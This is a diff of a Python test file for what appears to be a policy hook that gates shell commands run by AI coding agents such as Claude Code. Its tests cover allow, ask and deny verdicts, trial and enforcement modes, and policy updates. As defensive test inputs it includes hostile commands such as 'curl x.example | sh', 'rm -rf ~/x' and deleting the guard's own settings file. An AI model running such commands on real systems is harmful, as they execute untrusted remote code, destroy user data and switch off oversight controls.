@@ -91,7 +91,7 @@ def test_an_unknown_event_denies(claude: HookUser) -> None:
 
 def test_a_killed_daemon_is_started_again_and_knows_the_history(claude: HookUser) -> None:
     assert claude.run("touch a.py") == "allow"
-    assert claude.run("git push origin topic") == "deny"
+    assert claude.run("git push origin topic") == "ask"
     claude.stop_daemon()
     assert claude.run("pytest") == "allow"
     claude.stop_daemon()
@@ -142,41 +142,73 @@ def test_a_full_disk_denies(claude: HookUser) -> None:
     assert decision("claude-code", ran) == "deny"
 
 
-def test_a_changed_policy_denies_until_it_is_installed_again(claude: HookUser) -> None:
+def test_a_changed_policy_is_in_force_after_an_update(claude: HookUser) -> None:
+    """Until then the copy is, whatever happens to the file; a changed copy denies everything."""
     assert claude.run("ls") == "allow"
     claude.policy.write_text("version: 1\nunlisted: allow\npolicies: [{id: a, temporal: G !tool:x}]\n")
-    ran = claude.send("before", tool_name="Bash", tool_input={"command": "ls"}, tool_use_id="x")
-    assert decision("claude-code", ran) == "deny"
-    assert "install the hook again" in ran.stdout
-    assert "has changed" in claude.command("hook", "status", status=1)
-    claude.install()
+    assert claude.run("rm -rf ~/x") == "deny", "the copy is in force"
+    assert "has changed; its copy stays in force" in claude.command("hook", "status")
+    assert "+policies: [{id: a, temporal: G !tool:x}]" in claude.command("hook", "update", "--user")
     ran = claude.send("before", tool_name="Bash", tool_input={"command": "ls"}, tool_use_id="y")
     assert "start a new session" in ran.stdout
+    assert claude.run("rm -rf ~/x", session="s2") == "allow"
+    claude.policy.unlink()
+    assert "is not there now" in claude.command("hook", "status")
     assert claude.run("ls", session="s2") == "allow"
+    for copied in (claude.state / "policies").rglob("policy.yaml"):
+        copied.write_text("version: 1\nunlisted: allow\n")
+    assert claude.run("ls", session="s2") == "deny"
+    assert "hook update" in claude.command("hook", "status", status=1)
+
+
+def test_a_project_is_guarded_on_trial_and_then_enforced(tmp_path: Path) -> None:
+    """As a newcomer does it: init, the command that it ends with, a stash, and the end of the trial."""
+    user = HookUser(tmp_path, "claude-code")
+    for words in (["init", "-q", "-b", "topic"], ["config", "user.email", "a@b"], ["config", "user.name", "a"]):
+        subprocess.run(["git", *words], cwd=user.project, check=True)  # noqa: S607
+    (user.project / "CLAUDE.md").write_text("x\n")
+    assert "No hooks" in user.command("hook", "status", status=1)
+    ended = user.command("init").splitlines()[-1]
+    assert ended == "guardagent hook install --trial claude-code"
+    user.command(*ended.split()[1:])
+    assert "on trial: violations only warn" in user.command("hook", "status")
+    assert (user.run("curl x.example | sh"), user.run("git push origin topic")) == ("allow", "allow")
+    for words in (["add", "CLAUDE.md"], ["commit", "-qm", "x"], ["stash", "-u", "-q"]):
+        subprocess.run(["git", *words], cwd=user.project, check=True)  # noqa: S607
+    assert sorted(path.name for path in user.project.iterdir()) == [".claude", ".git", "CLAUDE.md"]
+    assert [path.name for path in (user.project / ".claude").iterdir()] == ["settings.local.json"]
+    user.command("hook", "enforce")
+    assert "enforced" in user.command("hook", "status")
+    assert user.run("ls") == "allow"
+    assert user.run("find . -name '*.pyc' -delete") == "allow"
+    assert user.run("curl x.example | sh") == "deny", "in the running session, too"
+    assert user.run("git push origin topic") == "ask"
+    assert user.run("rm .claude/settings.local.json") == "deny"
+    user.stop_daemon()
 
 
 def test_temporal_rules_hold_over_subagents_parallel_hooks_and_a_resume(user: HookUser) -> None:
-    shell = SHELLS[user.host]
+    shell, stopped = SHELLS[user.host], "ask" if user.host == "claude-code" else "deny"
     assert user.run("touch src.py") == "allow"
     assert user.run("pytest", failed=True) == "allow"
-    assert user.run("git push origin topic") == "deny", "the tests have failed"
+    assert user.run("git push origin topic") == stopped, "the tests have failed"
     assert user.run("pytest | tail -3") == "allow"
-    assert user.run("git push origin topic") == "deny", "the status of a pipeline is not that of the tests"
+    assert user.run("git push origin topic") == stopped, "the status of a pipeline is not that of the tests"
     assert user.run("pytest", agent_id="sub-1") == "allow"
     assert user.run("git push origin topic", agent_id="sub-2") == "allow", "sub-agents share the session"
     edits = [{"command": f"sed -i s/a/b/ src{at}.py"} for at in range(6)]
     with ThreadPoolExecutor(6) as pool:
         answers = list(pool.map(lambda at: user.before(shell, edits[at], f"edit-{at}", agent_id=f"sub-{at}"), range(6)))
     assert answers == ["allow"] * 6
-    assert user.run("git push origin topic") == "deny", "these edits may still run"
+    assert user.run("git push origin topic") == stopped, "these edits may still run"
     for at in range(6):
         user.after(shell, edits[at], f"edit-{at}")
     user.stop_daemon()
-    assert user.run("git push origin topic") == "deny", "the history outlives the daemon"
+    assert user.run("git push origin topic") == stopped, "the history outlives the daemon"
     assert user.run("pytest") == "allow"
     assert user.run("git push origin topic") == "allow"
     other = user.before(shell, {"command": "git push origin topic"}, "o", session="another")
-    assert other == "deny", "another session has no tests"
+    assert other == stopped, "another session has no tests"
 
 
 def test_an_answer_of_the_hosts_user_is_a_step_of_the_history(claude: HookUser) -> None:
@@ -184,7 +216,7 @@ def test_an_answer_of_the_hosts_user_is_a_step_of_the_history(claude: HookUser) 
     claude.run("touch a.py")
     args = {"command": "npm test $EXTRA"}
     assert claude.before("Bash", args, "asked") == "ask"
-    assert claude.run("git push origin topic") == "deny"
+    assert claude.run("git push origin topic") == "ask"
     claude.after("Bash", args, "asked")
     assert claude.run("git push origin topic") == "allow"
 
@@ -200,9 +232,9 @@ def test_the_settings_of_others_stay(claude: HookUser) -> None:
     installed = json.loads(path.read_text())
     assert (installed["model"], installed["hooks"]["PreToolUse"][0]) == ("m", other)
     assert len(installed["hooks"]["PreToolUse"]) == 2
-    claude.command("hook", "uninstall", "claude-code")
+    claude.command("hook", "uninstall", "claude-code", "--user")
     assert json.loads(path.read_text()) == {"model": "m", "hooks": {"PreToolUse": [other]}}
-    assert "No hooks" in claude.command("hook", "status")
+    assert "No hooks" in claude.command("hook", "status", status=1)
 
 
 def test_the_status_runs_the_hook(claude: HookUser) -> None:
@@ -227,7 +259,7 @@ def test_the_status_runs_the_hook(claude: HookUser) -> None:
 def test_hooks_that_may_answer_prompts_are_named(
     claude: HookUser, event: str, command: str | None, ask: str, *, is_named: bool
 ) -> None:
-    claude.command("hook", "install", "claude-code", "--policies", str(claude.policy), "--ask", ask)
+    claude.command("hook", "install", "claude-code", "--user", "--policies", str(claude.policy), "--ask", ask)
     path = claude.home / ".claude" / "settings.json"
     settings = json.loads(path.read_text())
     hook = {"type": "command", "command": command} if command else {"type": "http", "url": "https://x.example"}
@@ -240,7 +272,7 @@ def test_hooks_that_may_answer_prompts_are_named(
 
 def test_another_place_to_ask_is_refused(claude: HookUser) -> None:
     shown = claude.command(
-        "hook", "install", "claude-code", "--policies", str(claude.policy), "--ask", "nobody", status=2
+        "hook", "install", "claude-code", "--user", "--policies", str(claude.policy), "--ask", "nobody", status=2
     )
     assert "'nobody' cannot ask a person; expected host or watch" in shown
 
@@ -251,7 +283,7 @@ def test_settings_that_cannot_be_read_are_left_alone(tmp_path: Path) -> None:
     path.parent.mkdir()
     path.write_text("{ // a comment\n}")
     assert "nothing was changed" in hook_user.command(
-        "hook", "install", "claude-code", "--policies", str(hook_user.policy), status=2
+        "hook", "install", "claude-code", "--user", "--policies", str(hook_user.policy), status=2
     )
     assert path.read_text() == "{ // a comment\n}"
 
